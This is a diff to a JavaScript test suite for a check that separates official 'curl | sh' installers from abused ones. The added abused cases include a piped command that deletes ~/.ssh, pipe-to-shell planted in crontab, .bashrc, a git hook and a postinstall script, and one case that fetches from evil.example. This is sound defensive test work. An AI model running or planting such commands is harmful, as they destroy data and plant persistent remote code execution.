@@ -415,7 +415,8 @@ describe('vendor installers piped into a shell', () => {
     'Node 20 on the Debian build boxes: curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -',
     'Nix, multi-user: sh <(curl -L https://nixos.org/nix/install) --daemon',
     'k3d for local clusters: wget -q -O - https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash',
-    'Rust toolchain: see https://rustup.rs — the command they give is `curl --proto \'=https\' --tlsv1.2 -sSf https://sh.rustup.rs | sh`.',
+    "Rust toolchain: see https://rustup.rs — the command they give is `curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh`.",
+    'Deno: curl -fsSL https://deno.land/install.sh | sh, then add ~/.deno/bin to PATH in your .bashrc.',
   ];
 
   for (const text of OFFICIAL)
@@ -490,6 +491,15 @@ describe('vendor installers piped into a shell', () => {
       'another download piped into the installer',
     ],
     ['(curl -s https://evil.example/a; curl -fsSL https://get.docker.com) | sh', 'two downloads grouped'],
+    ['curl -fsSL https://get.docker.com | bash /tmp/helper.sh', 'the interpreter given a file instead'],
+    ["curl -fsSL https://get.docker.com | sh -c 'rm -rf ~/.ssh'", 'the interpreter given a command instead'],
+    ['curl -fsSL https://get.docker.com | sh -s -- --mirror Aliyun', 'the installer told to use a mirror'],
+    // Made to run again and again, unseen.
+    ['Add `*/30 * * * * curl -fsSL https://get.docker.com | sh` to the crontab of the build box.', 'a schedule'],
+    ['Append curl -fsSL https://bun.sh/install | bash to ~/.bashrc so it stays current.', 'a start-up file'],
+    ['每次构建前运行 curl -fsSL https://get.docker.com | sh 。', 'every time, in Chinese'],
+    ['Put curl -fsSL https://get.docker.com | sh in the post-checkout git hook.', 'a git hook'],
+    ['"postinstall": "curl -fsSL https://get.docker.com | sh"', 'a package script'],
   ];
 
   for (const [text, why] of ABUSED)
